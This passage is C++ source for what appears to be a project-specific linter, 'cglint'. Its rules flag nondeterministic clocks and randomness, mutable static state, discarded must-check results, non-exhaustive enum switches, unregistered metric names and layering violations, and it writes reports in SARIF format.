std::size_t matching_paren(const std::vector<Token>& code, std::size_t open) {
  int depth = 0;
  for (std::size_t i = open; i < code.size(); ++i) {
    if (code[i].text == "(") ++depth;
    if (code[i].text == ")" && --depth == 0) return i;
  }
  return std::string::npos;
}

// ---- W2: must-check results ----------------------------------------------

/// True when the token at `i` begins an expression statement — the position
/// where a call's result has nowhere to go. `(void)` casts are an explicit,
/// sanctioned discard and are excluded.
bool statement_initial(const std::vector<Token>& code, std::size_t i) {
  if (i == 0) return true;
  const std::string_view prev = code[i - 1].text;
  if (prev == ";" || prev == "{" || prev == "}" || prev == "else") {
    return true;
  }
  if (prev == ")") {
    const bool void_cast =
        i >= 3 && code[i - 2].text == "void" && code[i - 3].text == "(";
    return !void_cast;
  }
  return false;
}

void rule_w2(const Sink& sink, const SymbolIndex& index,
             const std::vector<Token>& code) {
  if (!sink.config->rule_applies("W2", sink.module)) return;

  // Definition-site check: a must-check type that is not [[nodiscard]]
  // leaves the compiler out of the contract cglint enforces.
  for (const auto& [type, def] : index.mustcheck_types) {
    if (def.file != *sink.path || def.nodiscard) continue;
    sink.add("W2", def.line,
             concat("must-check type '", type,
                    "' is not declared [[nodiscard]] — annotate `struct "
                    "[[nodiscard]] ",
                    type, "` so the compiler backs this rule"));
  }

  // Local receiver tracking: `Class [*&>] name` declared in this file, for
  // classes that own must-check methods.
  std::map<std::string_view, std::string> locals;
  for (std::size_t i = 0; i < code.size(); ++i) {
    if (code[i].kind != TokenKind::kIdentifier) continue;
    if (index.mustcheck_methods.count(std::string(code[i].text)) == 0) {
      continue;
    }
    const std::string type(code[i].text);
    std::size_t j = i + 1;
    while (j < code.size() &&
           (code[j].text == "*" || code[j].text == "&" ||
            code[j].text == "&&" || code[j].text == ">" ||
            code[j].text == "const")) {
      ++j;
    }
    if (j < code.size() && code[j].kind == TokenKind::kIdentifier) {
      locals.emplace(code[j].text, type);
    }
  }

  auto receiver_class = [&](std::string_view name) -> const std::string* {
    const auto local = locals.find(name);
    if (local != locals.end()) return &local->second;
    const auto member = index.member_receivers.find(std::string(name));
    if (member != index.member_receivers.end() && !member->second.empty()) {
      return &member->second;
    }
    return nullptr;
  };

  auto methods_of = [&](const std::string& cls) -> const std::set<std::string>* {
    const auto it = index.mustcheck_methods.find(cls);
    return it == index.mustcheck_methods.end() ? nullptr : &it->second;
  };

  for (std::size_t i = 0; i < code.size(); ++i) {
    if (code[i].kind != TokenKind::kIdentifier) continue;

    std::size_t open = std::string::npos;
    std::string call;
    // Member call through a known receiver: V.M(...) / V->M(...).
    if (i + 3 < code.size() &&
        (code[i + 1].text == "." || code[i + 1].text == "->") &&
        code[i + 2].kind == TokenKind::kIdentifier &&
        code[i + 3].text == "(") {
      const std::string* cls = receiver_class(code[i].text);
      const std::set<std::string>* methods =
          cls != nullptr ? methods_of(*cls) : nullptr;
      if (methods != nullptr &&
          methods->count(std::string(code[i + 2].text)) != 0) {
        open = i + 3;
        call = concat(code[i].text, code[i + 1].text, code[i + 2].text);
      }
    } else if (next_is(code, i, "(") && !is_member_access(code, i) &&
               index.mustcheck_functions.count(std::string(code[i].text)) !=
                   0) {
      open = i + 1;
      call = std::string(code[i].text);
    }
    if (open == std::string::npos || !statement_initial(code, i)) continue;

    const std::size_t close = matching_paren(code, open);
    if (close == std::string::npos || close + 1 >= code.size()) continue;
    // `;` right after the call: the result had nowhere to go. A trailing
    // `.`/`->` means it was consumed (status.ok(), result->page...).
    if (code[close + 1].text == ";") {
      sink.add("W2", code[i].line,
               concat("result of must-check call '", call,
                      "(...)' is discarded — check it or spell the discard "
                      "`(void)` with a reason"));
    }
  }
}

// ---- E1: taxonomy exhaustiveness -----------------------------------------

void rule_e1(const Sink& sink, const SymbolIndex& index,
             const std::vector<Token>& code) {
  const NameRegistry* registry = sink.config->enum_registry();
  if (registry == nullptr || registry->empty()) return;
  if (!sink.config->rule_applies("E1", sink.module)) return;

  for (std::size_t i = 0; i < code.size(); ++i) {
    if (code[i].text != "switch" || !next_is(code, i, "(")) continue;
    const std::size_t cond_close = matching_paren(code, i + 1);
    if (cond_close == std::string::npos ||
        !next_is(code, cond_close, "{")) {
      continue;
    }

    // Scan the switch body; depth-1 labels belong to this switch, nested
    // switches are revisited by the outer loop on their own.
    std::string enum_name;
    std::set<std::string> seen;
    int default_line = 0;
    int depth = 0;
    std::size_t body_end = code.size();
    for (std::size_t j = cond_close + 1; j < code.size(); ++j) {
      const std::string_view u = code[j].text;
      if (u == "{") {
        ++depth;
        continue;
      }
      if (u == "}") {
        if (--depth == 0) {
          body_end = j;
          break;
        }
        continue;
      }
      if (depth != 1) continue;
      if (u == "default" && next_is(code, j, ":")) {
        if (default_line == 0) default_line = code[j].line;
      } else if (u == "case") {
        // `case [ns::]Enum::kValue:` — the enumerator is the identifier
        // right before the label's `:`, the enum the one before the last
        // `::`. (`::` is a single token, so a plain `:` ends the label.)
        std::string last;
        std::string before_last;
        for (std::size_t k = j + 1; k < code.size(); ++k) {
          if (code[k].text == ":") break;
          if (code[k].kind == TokenKind::kIdentifier) {
            before_last = std::move(last);
            last = std::string(code[k].text);
          }
        }
        if (!last.empty() && !before_last.empty()) {
          if (enum_name.empty()) enum_name = before_last;
          if (before_last == enum_name) seen.insert(last);
        }
      }
    }

    std::string entry;
    if (enum_name.empty() || !registry->matches(enum_name, &entry)) {
      continue;  // not a switch over a registered taxonomy
    }
    const auto enumerators = index.enums.find(enum_name);
    if (enumerators == index.enums.end()) continue;

    if (default_line != 0) {
      sink.add("E1", default_line,
               concat("bare default in switch over taxonomy enum '",
                      enum_name,
                      "' — a new enumerator would be silently swallowed; "
                      "name every case (or allow(E1) with a reason)"));
    } else {
      std::string missing;
      for (const std::string& enumerator : enumerators->second) {
        if (seen.count(enumerator) != 0) continue;
        if (!missing.empty()) missing += ", ";
        missing += enumerator;
      }
      if (!missing.empty()) {
        sink.add("E1", code[i].line,
                 concat("switch over taxonomy enum '", enum_name,
                        "' does not handle: ", missing));
      }
    }
    i = body_end;
  }
}

// ---- M1: metrics-name registry -------------------------------------------

bool is_metric_shape(std::string_view name) {
  if (name.empty() || name.find('.') == std::string_view::npos) return false;
  for (const char c : name) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') ||
                    c == '.' || c == '_';
    if (!ok) return false;
  }
  return true;
}

/// The contents of a plain "..." literal token; nullopt for char literals,
/// raw strings, and prefixed literals (metric names are none of those).
std::optional<std::string_view> plain_string_contents(const Token& token) {
  const std::string_view text = token.text;
  if (text.size() < 2 || text.front() != '"' || text.back() != '"') {
    return std::nullopt;
  }
  return text.substr(1, text.size() - 2);
}

void rule_m1(const Sink& sink, const std::vector<Token>& code,
             std::set<std::string>* used_metric_entries) {
  const NameRegistry* registry = sink.config->metric_registry();
  if (registry == nullptr) return;
  if (!sink.config->rule_applies("M1", sink.module)) return;

  static const std::set<std::string_view> kObsHelpers = {
      "metric_add", "metric_gauge_max", "metric_observe"};
  static const std::set<std::string_view> kRegistryMethods = {
      "add",     "gauge_max", "observe",       "histogram",
      "counter", "gauge",     "find_histogram"};

  // The first string literal inside the call's argument list is the metric
  // name (it may sit inside a concat(...) that appends a dynamic suffix).
  auto check_call = [&](std::size_t open, bool require_shape) {
    const std::size_t close = matching_paren(code, open);
    if (close == std::string::npos) return;
    for (std::size_t j = open + 1; j < close; ++j) {
      if (code[j].kind != TokenKind::kString) continue;
      const auto contents = plain_string_contents(code[j]);
      if (!contents) return;
      if (require_shape && !is_metric_shape(*contents)) return;
      const bool prefix_literal =
          (!contents->empty() && contents->back() == '.') ||
          next_is(code, j, "+");
      std::string entry;
      if (prefix_literal) {
        if (registry->matches_prefix(*contents, &entry)) {
          if (used_metric_entries != nullptr) {
            used_metric_entries->insert(entry);
          }
        } else {
          sink.add("M1", code[j].line,
                   concat("metric name prefix '", *contents,
                          "' has no wildcard entry in lint/metrics.txt — "
                          "add '",
                          *contents, "*'"));
        }
      } else {
        if (registry->matches(*contents, &entry)) {
          if (used_metric_entries != nullptr) {
            used_metric_entries->insert(entry);
          }
        } else {
          sink.add("M1", code[j].line,
                   concat("metric name '", *contents,
                          "' is not registered in lint/metrics.txt — add "
                          "it or fix the typo"));
        }
      }
      return;  // only the first literal names the metric
    }
  };

  for (std::size_t i = 0; i < code.size(); ++i) {
    const std::string_view t = code[i].text;
    // obs::metric_add("name", ...) and friends — always metric names.
    if (code[i].kind == TokenKind::kIdentifier &&
        kObsHelpers.count(t) != 0 && next_is(code, i, "(")) {
      check_call(i + 1, /*require_shape=*/false);
      continue;
    }
    // Configured wrapper functions (metricwrap) — the first string literal
    // in the argument list is a metric name wherever it sits.
    if (code[i].kind == TokenKind::kIdentifier &&
        sink.config->metric_wrappers().count(std::string(t)) != 0 &&
        next_is(code, i, "(") && !is_member_access(code, i)) {
      check_call(i + 1, /*require_shape=*/false);
      continue;
    }
    // registry.add("name", ...) member calls. Guarded twice against
    // lookalikes (HttpHeaders::add, EntityMap::add, cookie-jar domains):
    // the receiver must read like a metrics object and the literal must
    // have the dotted-lowercase metric shape.
    if ((t == "." || t == "->") && i > 0 && i + 2 < code.size() &&
        code[i - 1].kind == TokenKind::kIdentifier &&
        code[i + 1].kind == TokenKind::kIdentifier &&
        kRegistryMethods.count(code[i + 1].text) != 0 &&
        code[i + 2].text == "(") {
      const std::string_view receiver = code[i - 1].text;
      const bool metrics_receiver =
          receiver == "m" ||
          receiver.find("metric") != std::string_view::npos ||
          receiver.find("registry") != std::string_view::npos ||
          receiver.find("stats") != std::string_view::npos;
      if (metrics_receiver) check_call(i + 2, /*require_shape=*/true);
    }
  }
}

}  // namespace

std::vector<Violation> run_semantic_rules(
    const Config& config, const SymbolIndex& index, const std::string& path,
    const std::vector<Token>& tokens,
    std::set<std::string>* used_metric_entries) {
  std::vector<Violation> violations;
  Sink sink{&config, &path, config.module_of(path), &violations};

  std::vector<Token> code;
  code.reserve(tokens.size());
  for (const Token& token : tokens) {
    if (token.kind != TokenKind::kComment &&
        token.kind != TokenKind::kDirective) {
      code.push_back(token);
    }
  }

  rule_w2(sink, index, code);
  rule_e1(sink, index, code);
  rule_m1(sink, code, used_metric_entries);

  std::stable_sort(violations.begin(), violations.end(),
                   [](const Violation& a, const Violation& b) {
                     if (a.line != b.line) return a.line < b.line;
                     return a.rule < b.rule;
                   });
  return violations;
}

}  // namespace cg::lint
