#include "lint/rules.h"

#include <algorithm>
#include <array>
#include <set>

namespace cg::lint {
namespace {

/// Append-style message builder. GCC 12's -Wrestrict false-fires on chained
/// std::string operator+ (PR 105329); building via append keeps -Werror on.
template <typename... Parts>
std::string concat(Parts&&... parts) {
  std::string out;
  (out.append(parts), ...);
  return out;
}

// ---- suppression parsing -------------------------------------------------

bool is_rule_char(char c) {
  return (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
}

/// Strip comment delimiters, whitespace, and the `—`/`--`/`:` separator that
/// introduces the reason.
std::string_view trim_reason(std::string_view text) {
  while (!text.empty()) {
    const unsigned char c = static_cast<unsigned char>(text.front());
    if (c == ' ' || c == '\t' || c == '-' || c == ':' || c >= 0x80) {
      // >= 0x80 strips UTF-8 punctuation like the em dash byte-wise; reasons
      // are expected to start with an ASCII word.
      text.remove_prefix(1);
    } else {
      break;
    }
  }
  while (!text.empty()) {
    const char c = text.back();
    if (c == ' ' || c == '\t' || c == '\n' || c == '\r') {
      text.remove_suffix(1);
    } else if (text.size() >= 2 && text.substr(text.size() - 2) == "*/") {
      text.remove_suffix(2);
    } else {
      break;
    }
  }
  return text;
}

}  // namespace

std::vector<Suppression> parse_suppressions(const std::vector<Token>& tokens,
                                            const std::string& file,
                                            std::vector<Violation>* errors) {
  std::vector<Suppression> result;
  for (std::size_t i = 0; i < tokens.size(); ++i) {
    const Token& token = tokens[i];
    if (token.kind != TokenKind::kComment) continue;
    const std::string_view text = token.text;
    const std::size_t marker = text.find("cglint:");
    if (marker == std::string_view::npos) continue;

    auto malformed = [&](const std::string& detail) {
      if (errors != nullptr) {
        errors->push_back({file, token.line, "S1",
                           concat("malformed cglint annotation: ", detail)});
      }
    };

    std::string_view rest = text.substr(marker + 7);
    while (!rest.empty() && (rest.front() == ' ' || rest.front() == '\t')) {
      rest.remove_prefix(1);
    }
    static constexpr std::string_view kAllow = "allow(";
    if (rest.substr(0, kAllow.size()) != kAllow) {
      malformed("expected allow(RULE[,RULE...])");
      continue;
    }
    rest.remove_prefix(kAllow.size());
    const std::size_t close = rest.find(')');
    if (close == std::string_view::npos) {
      malformed("unterminated allow(");
      continue;
    }

    Suppression suppression;
    suppression.comment_line = token.line;
    std::string rule;
    bool bad_rule = false;
    for (const char c : rest.substr(0, close)) {
      if (c == ',' || c == ' ') {
        if (!rule.empty()) suppression.rules.push_back(rule);
        rule.clear();
      } else if (is_rule_char(c)) {
        rule += c;
      } else {
        bad_rule = true;
      }
    }
    if (!rule.empty()) suppression.rules.push_back(rule);
    if (bad_rule || suppression.rules.empty()) {
      malformed("rule list must be comma-separated rule IDs");
      continue;
    }
    suppression.reason = std::string(trim_reason(rest.substr(close + 1)));
    if (suppression.reason.empty() && errors != nullptr) {
      errors->push_back(
          {file, token.line, "S2",
           concat("suppression without a reason — write `// cglint: allow(",
                  suppression.rules.front(), ") — why this is safe`")});
    }

    // Trailing comment suppresses its own line; a comment alone on a line
    // suppresses the next code line.
    const bool own_line =
        i == 0 || tokens[i - 1].line != token.line ||
        tokens[i - 1].kind == TokenKind::kComment;
    if (own_line) {
      suppression.target_line = 0;  // resolved below: next non-comment token
      for (std::size_t j = i + 1; j < tokens.size(); ++j) {
        if (tokens[j].kind == TokenKind::kComment) continue;
        suppression.target_line = tokens[j].line;
        break;
      }
      if (suppression.target_line == 0) suppression.target_line = token.line;
    } else {
      suppression.target_line = token.line;
    }
    result.push_back(std::move(suppression));
  }
  return result;
}

// ---- rule engine ---------------------------------------------------------

namespace {

struct Sink {
  const Config* config;
  const std::string* path;
  std::string module;
  std::vector<Violation>* out;

  void add(const std::string& rule, int line, std::string message) const {
    if (config->rule_allowlisted(rule, *path)) return;
    out->push_back({*path, line, rule, std::move(message)});
  }
};

bool is_member_access(const std::vector<Token>& code, std::size_t i) {
  if (i == 0) return false;
  const std::string_view prev = code[i - 1].text;
  return prev == "." || prev == "->";
}

bool next_is(const std::vector<Token>& code, std::size_t i,
             std::string_view text) {
  return i + 1 < code.size() && code[i + 1].text == text;
}

// D1: the virtual clock (net/clock.h SimClock) is the only time source that
// may influence crawl output; every wall-clock read is flagged.
void rule_d1(const Sink& sink, const std::vector<Token>& code) {
  static const std::set<std::string_view> kClockIds = {
      "system_clock",  "steady_clock", "high_resolution_clock",
      "utc_clock",     "file_clock",   "gettimeofday",
      "clock_gettime", "timespec_get", "localtime",
      "gmtime",        "mktime",       "ftime"};
  for (std::size_t i = 0; i < code.size(); ++i) {
    if (code[i].kind != TokenKind::kIdentifier) continue;
    const std::string_view id = code[i].text;
    const bool named_clock = kClockIds.count(id) != 0;
    const bool time_call = id == "time" && next_is(code, i, "(") &&
                           !is_member_access(code, i);
    if (!named_clock && !time_call) continue;
    sink.add("D1", code[i].line,
             concat("wall-clock time source '", id,
                    "' — crawl-visible time must come from the virtual "
                    "clock (net/clock.h)"));
  }
}

// D2: all randomness must flow from the seeded corpus PRNG (script/rng.h);
// std:: engines and libc rand are nondeterministic or default-seeded traps.
void rule_d2(const Sink& sink, const std::vector<Token>& code) {
  static const std::set<std::string_view> kEngineIds = {
      "random_device", "mt19937",        "mt19937_64",
      "minstd_rand",   "minstd_rand0",   "default_random_engine",
      "knuth_b",       "ranlux24",       "ranlux24_base",
      "ranlux48",      "ranlux48_base"};
  static const std::set<std::string_view> kCallIds = {
      "rand", "srand", "rand_r", "drand48", "srand48", "lrand48", "mrand48"};
  for (std::size_t i = 0; i < code.size(); ++i) {
    if (code[i].kind != TokenKind::kIdentifier) continue;
    const std::string_view id = code[i].text;
    const bool engine = kEngineIds.count(id) != 0;
    const bool call = kCallIds.count(id) != 0 && next_is(code, i, "(") &&
                      !is_member_access(code, i);
    if (!engine && !call) continue;
    sink.add("D2", code[i].line,
             concat("nondeterministic randomness '", id,
                    "' — derive all randomness from the seeded corpus PRNG "
                    "(script/rng.h)"));
  }
}

bool is_unordered_container(std::string_view id) {
  return id == "unordered_map" || id == "unordered_set" ||
         id == "unordered_multimap" || id == "unordered_multiset";
}

// D3: hash-iteration order leaks into output bytes. Two checks: (a) in
// modules that feed serialized output (restrict D3 ... in the config), any
// unordered container is flagged — the safe default there is std::map/set;
// (b) everywhere, a range-for or .begin() over a variable declared with an
// unordered type is flagged.
void rule_d3(const Sink& sink, const std::vector<Token>& code) {
  const bool restricted_module =
      sink.config->rule_applies("D3", sink.module);
  std::set<std::string_view> unordered_vars;

  for (std::size_t i = 0; i < code.size(); ++i) {
    if (code[i].kind != TokenKind::kIdentifier ||
        !is_unordered_container(code[i].text)) {
      continue;
    }
    if (restricted_module) {
      sink.add("D3", code[i].line,
               concat("'", code[i].text,
                      "' in a deterministic-output module — iteration order "
                      "leaks into emitted bytes; use std::map/std::set or "
                      "drain in sorted order"));
    }
    // Track the declared variable name: unordered_map<...> NAME
    std::size_t j = i + 1;
    if (j < code.size() && code[j].text == "<") {
      int depth = 0;
      for (; j < code.size(); ++j) {
        if (code[j].text == "<") ++depth;
        if (code[j].text == ">") {
          if (--depth == 0) {
            ++j;
            break;
          }
        }
      }
    }
    if (j < code.size() && code[j].kind == TokenKind::kIdentifier) {
      unordered_vars.insert(code[j].text);
    }
  }
  if (unordered_vars.empty()) return;

  for (std::size_t i = 0; i < code.size(); ++i) {
    // for ( ... : EXPR ) with a tracked variable in EXPR.
    if (code[i].text == "for" && next_is(code, i, "(")) {
      int depth = 0;
      bool past_colon = false;
      for (std::size_t j = i + 1; j < code.size(); ++j) {
        if (code[j].text == "(") ++depth;
        if (code[j].text == ")" && --depth == 0) break;
        if (code[j].text == ":" && depth == 1) past_colon = true;
        if (past_colon && code[j].kind == TokenKind::kIdentifier &&
            unordered_vars.count(code[j].text) != 0) {
          sink.add("D3", code[i].line,
                   concat("range-for over unordered container '",
                          code[j].text,
                          "' — iteration order is hash/seed dependent"));
          break;
        }
      }
    }
    // TRACKED . begin( / cbegin(
    if (code[i].kind == TokenKind::kIdentifier &&
        unordered_vars.count(code[i].text) != 0 && next_is(code, i, ".") &&
        i + 2 < code.size() &&
        (code[i + 2].text == "begin" || code[i + 2].text == "cbegin") &&
        next_is(code, i + 2, "(")) {
      sink.add("D3", code[i].line,
               concat("iterator over unordered container '", code[i].text,
                      "' — iteration order is hash/seed dependent"));
    }
  }
}

// ---- D4: mutable static state --------------------------------------------

enum class ScopeKind { kNamespace, kClass, kEnum, kBlock };

struct DeclInfo {
  bool has_const = false;      // const / constexpr / consteval
  bool has_paren = false;      // a '(' before the terminator
  bool has_assign = false;     // '=' at top paren level
  bool has_inline = false;
  char terminator = ';';       // ';' or '{'
};

/// Summarize the declaration starting at `begin` (the token after
/// static/thread_local) up to its `;` or body `{`.
DeclInfo scan_decl(const std::vector<Token>& code, std::size_t begin) {
  DeclInfo info;
  int paren_depth = 0;
  for (std::size_t i = begin; i < code.size(); ++i) {
    const std::string_view t = code[i].text;
    if (t == "(") {
      if (paren_depth == 0) info.has_paren = true;
      ++paren_depth;
    } else if (t == ")") {
      --paren_depth;
    } else if (paren_depth == 0) {
      if (t == ";") {
        info.terminator = ';';
        break;
      }
      if (t == "{") {
        info.terminator = '{';
        break;
      }
      if (t == "=") {
        info.has_assign = true;
      } else if (t == "const" || t == "constexpr" || t == "consteval") {
        info.has_const = true;
      } else if (t == "inline") {
        info.has_inline = true;
      }
    }
  }
  return info;
}

bool all_namespace(const std::vector<ScopeKind>& scopes) {
  return std::all_of(scopes.begin(), scopes.end(), [](ScopeKind k) {
    return k == ScopeKind::kNamespace;
  });
}

// Keywords that exempt a namespace-scope statement from the global check.
bool starts_exempt_global(std::string_view first) {
  static const std::set<std::string_view> kExempt = {
      "using",     "typedef", "template", "extern",   "friend",
      "namespace", "class",   "struct",   "enum",     "union",
      "concept",   "static_assert",       "requires", "export"};
  return kExempt.count(first) != 0;
}

void rule_d4(const Sink& sink, const std::vector<Token>& code) {
  std::vector<ScopeKind> scopes;
  ScopeKind pending = ScopeKind::kBlock;
  bool pending_set = false;

  // Namespace-scope statement accumulator for the plain-global check.
  std::size_t stmt_begin = 0;
  bool stmt_saw_brace = false;

  auto check_global_stmt = [&](std::size_t end) {
    // [stmt_begin, end) is a flat namespace-scope statement ending in ';'.
    if (stmt_saw_brace || end <= stmt_begin) return;
    const std::size_t n = end - stmt_begin;
    if (n < 2) return;
    const std::string_view first = code[stmt_begin].text;
    if (starts_exempt_global(first) || first == "static" ||
        first == "thread_local") {
      return;  // fwd decls / aliases / statics handled elsewhere
    }
    const DeclInfo info = scan_decl(code, stmt_begin);
    if (info.has_const || info.has_paren) return;  // const, or prototype-ish
    const Token& last = code[end - 1];
    const bool var_shape =
        info.has_assign || last.kind == TokenKind::kIdentifier ||
        last.text == "]";
    if (!var_shape) return;
    sink.add("D4", code[stmt_begin].line,
             "mutable namespace-scope global — the library must hold no "
             "mutable static state (DESIGN.md §7)");
  };

  for (std::size_t i = 0; i < code.size(); ++i) {
    const Token& token = code[i];
    const std::string_view t = token.text;

    const bool at_namespace_scope = all_namespace(scopes);

    // Scope machine.
    if (t == "namespace") {
      pending = ScopeKind::kNamespace;
      pending_set = true;
    } else if (t == "enum") {
      pending = ScopeKind::kEnum;
      pending_set = true;
    } else if ((t == "class" || t == "struct" || t == "union") &&
               (!pending_set || pending != ScopeKind::kEnum)) {
      pending = ScopeKind::kClass;
      pending_set = true;
    } else if (t == "{") {
      const ScopeKind kind = pending_set ? pending : ScopeKind::kBlock;
      scopes.push_back(kind);
      pending_set = false;
      if (kind == ScopeKind::kNamespace) {
        stmt_begin = i + 1;  // fresh statement run inside the namespace
        stmt_saw_brace = false;
      } else if (at_namespace_scope) {
        stmt_saw_brace = true;
      }
      continue;
    } else if (t == "}") {
      if (!scopes.empty()) scopes.pop_back();
      // A '}' closing a class/function at namespace scope usually ends a
      // statement (possibly followed by ';' which restarts cleanly).
      if (all_namespace(scopes)) {
        stmt_begin = i + 1;
        stmt_saw_brace = false;
      }
      continue;
    } else if (t == ";") {
      if (at_namespace_scope) {
        check_global_stmt(i);
        stmt_begin = i + 1;
        stmt_saw_brace = false;
      }
      pending_set = false;
      continue;
    } else if (t == ")") {
      // `)` before `{` is a function/control body, never a class.
      pending = ScopeKind::kBlock;
      pending_set = true;
    }

    // The static / thread_local checks.
    const bool in_class =
        !scopes.empty() && scopes.back() == ScopeKind::kClass;
    if (t == "thread_local") {
      if (i > 0 && code[i - 1].text == "extern") {
        continue;  // declaration only; the definition is where D4 fires
      }
      const DeclInfo info = scan_decl(code, i + 1);
      if (!info.has_const) {
        sink.add("D4", token.line,
                 "mutable thread_local state — thread-local mutability needs "
                 "an explicit rationale (DESIGN.md §8)");
      }
    } else if (t == "static" && token.kind == TokenKind::kIdentifier) {
      const DeclInfo info = scan_decl(code, i + 1);
      if (info.has_const) continue;
      if (i + 1 < code.size() && code[i + 1].text == "thread_local") {
        continue;  // reported by the thread_local branch
      }
      if (in_class) {
        // Member functions and plain member declarations are fine; a static
        // inline data member with an initializer is mutable global state.
        if (!info.has_paren && (info.has_assign || info.has_inline)) {
          sink.add("D4", token.line,
                   "mutable static data member — shared mutable state "
                   "(DESIGN.md §7)");
        }
        continue;
      }
      if (info.has_paren) {
        if (info.terminator == '{') continue;  // function definition
        if (at_namespace_scope) continue;      // file-static prototype
        // Block scope: `static T x(args);` — a constructor call, not a
        // prototype, in practice.
        sink.add("D4", token.line,
                 "mutable function-local static — not thread-safe state and "
                 "invisible to the determinism audit (DESIGN.md §7)");
        continue;
      }
      sink.add("D4", token.line,
               at_namespace_scope
                   ? "mutable file-static global — the library must hold no "
                     "mutable static state (DESIGN.md §7)"
                   : "mutable function-local static — not thread-safe state "
                     "and invisible to the determinism audit (DESIGN.md §7)");
    }
  }
}

// W1: an std::ofstream that is written but never health-checked turns disk
// errors (ENOSPC, quota, dying media) into silent data loss. In modules on
// the durable-output path (restrict W1 ... in the config), every owning
// ofstream declaration must be paired — somewhere in the same file — with a
// health check of that stream (`!name`, or name.good()/fail()/bad()/
// rdstate()), or replaced with store::ByteSink / store::write_file_atomic,
// which taxonomize failures instead of swallowing them.
void rule_w1(const Sink& sink, const std::vector<Token>& code) {
  if (!sink.config->rule_applies("W1", sink.module)) return;

  struct Decl {
    std::string_view name;
    int line;
  };
  std::vector<Decl> decls;
  for (std::size_t i = 0; i < code.size(); ++i) {
    if (code[i].kind != TokenKind::kIdentifier ||
        code[i].text != "ofstream") {
      continue;
    }
    const std::size_t j = i + 1;
    if (j >= code.size()) continue;
    if (code[j].text == "&" || code[j].text == "*") {
      continue;  // reference/pointer: not the owner of the stream's fate
    }
    if (code[j].kind == TokenKind::kIdentifier) {
      decls.push_back({code[j].text, code[i].line});
    }
  }
  if (decls.empty()) return;

  // Names that are stream-health-checked anywhere in the file.
  std::set<std::string_view> checked;
  for (std::size_t i = 0; i < code.size(); ++i) {
    if (code[i].text == "!" && i + 1 < code.size() &&
        code[i + 1].kind == TokenKind::kIdentifier) {
      checked.insert(code[i + 1].text);
    }
    if (code[i].kind == TokenKind::kIdentifier && next_is(code, i, ".") &&
        i + 2 < code.size() && next_is(code, i + 2, "(")) {
      const std::string_view member = code[i + 2].text;
      if (member == "good" || member == "fail" || member == "bad" ||
          member == "rdstate") {
        checked.insert(code[i].text);
      }
    }
  }

  for (const Decl& decl : decls) {
    if (checked.count(decl.name) != 0) continue;
    sink.add("W1", decl.line,
             concat("std::ofstream '", decl.name,
                    "' is never health-checked — a failed write is silent "
                    "data loss; test !", decl.name, " / ", decl.name,
                    ".good() after writing, or use store::ByteSink / "
                    "store::write_file_atomic"));
  }
}

// L1/L2: every quoted cross-module include must be a declared DAG edge.
// Modules named on an `apps` config line (tests/tools/bench) report under
// L2 so the application tier can be scoped separately from the library DAG.
void rule_l1(const Sink& sink, const std::vector<Token>& tokens) {
  const std::string rule =
      sink.config->app_module(sink.module) ? "L2" : "L1";
  for (const Token& token : tokens) {
    if (token.kind != TokenKind::kDirective) continue;
    const auto include = parse_include(token);
    if (!include || !include->quoted) continue;
    if (include->path.find('/') == std::string::npos) continue;  // sibling
    const std::string target =
        sink.config->module_of(concat("src/", include->path));
    if (target == sink.module) continue;
    if (!sink.config->module_declared(target)) {
      sink.add(rule, token.line,
               concat("include of undeclared module '", target,
                      "' — add it to lint/layering.txt"));
      continue;
    }
    if (!sink.config->edge_allowed(sink.module, target)) {
      sink.add(rule, token.line,
               concat("layering violation: module '", sink.module,
                      "' may not include '", target,
                      "' (edge not declared in lint/layering.txt)"));
    }
  }
}

}  // namespace

std::vector<Violation> run_rules(const Config& config, const std::string& path,
                                 const std::vector<Token>& tokens) {
  std::vector<Violation> violations;
  Sink sink{&config, &path, config.module_of(path), &violations};

  std::vector<Token> code;
  code.reserve(tokens.size());
  for (const Token& token : tokens) {
    if (token.kind != TokenKind::kComment &&
        token.kind != TokenKind::kDirective) {
      code.push_back(token);
    }
  }

  rule_d1(sink, code);
  rule_d2(sink, code);
  rule_d3(sink, code);
  rule_d4(sink, code);
  rule_w1(sink, code);
  rule_l1(sink, tokens);

  std::stable_sort(violations.begin(), violations.end(),
                   [](const Violation& a, const Violation& b) {
                     if (a.line != b.line) return a.line < b.line;
                     return a.rule < b.rule;
                   });
  return violations;
}

}  // namespace cg::lint
