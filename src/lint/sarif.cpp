#include "lint/sarif.h"

#include <algorithm>
#include <array>
#include <string_view>

#include "report/json.h"

namespace cg::lint {
namespace {

struct RuleDoc {
  std::string_view id;
  std::string_view summary;
};

// The full catalogue (DESIGN.md §10). Order is the SARIF ruleIndex order.
constexpr std::array<RuleDoc, 14> kRules = {{
    {"D1", "wall-clock time source outside allowlisted diagnostic paths"},
    {"D2", "nondeterministic randomness outside the seeded corpus PRNG"},
    {"D3", "unordered-container iteration hazard in output-feeding modules"},
    {"D4", "mutable static state"},
    {"E1", "switch over a registered taxonomy enum swallows enumerators"},
    {"IO", "file could not be read"},
    {"L1", "include crosses a module edge not declared in the DAG"},
    {"L2", "application-tier include crosses an undeclared module edge"},
    {"M1", "metric name literal not registered in lint/metrics.txt"},
    {"S1", "malformed suppression annotation"},
    {"S2", "suppression without a reason string"},
    {"S3", "suppression matched no violation"},
    {"W1", "std::ofstream written without a stream-health check"},
    {"W2", "must-check result discarded or type missing [[nodiscard]]"},
}};

int rule_index(std::string_view id) {
  for (std::size_t i = 0; i < kRules.size(); ++i) {
    if (kRules[i].id == id) return static_cast<int>(i);
  }
  return -1;
}

}  // namespace

std::string to_sarif(const LintReport& report) {
  using cg::report::Json;

  Json rules = Json::array();
  for (const RuleDoc& rule : kRules) {
    Json entry = Json::object();
    entry["id"] = Json(rule.id);
    Json text = Json::object();
    text["text"] = Json(rule.summary);
    entry["shortDescription"] = std::move(text);
    rules.push_back(std::move(entry));
  }

  Json driver = Json::object();
  driver["name"] = Json("cglint");
  driver["rules"] = std::move(rules);
  Json tool = Json::object();
  tool["driver"] = std::move(driver);

  Json results = Json::array();
  for (const Violation& violation : report.violations) {
    Json result = Json::object();
    result["ruleId"] = Json(violation.rule);
    const int index = rule_index(violation.rule);
    if (index >= 0) result["ruleIndex"] = Json(index);
    result["level"] = Json("error");
    Json message = Json::object();
    message["text"] = Json(violation.message);
    result["message"] = std::move(message);

    Json artifact = Json::object();
    artifact["uri"] = Json(violation.file);
    Json region = Json::object();
    region["startLine"] = Json(std::max(1, violation.line));
    Json physical = Json::object();
    physical["artifactLocation"] = std::move(artifact);
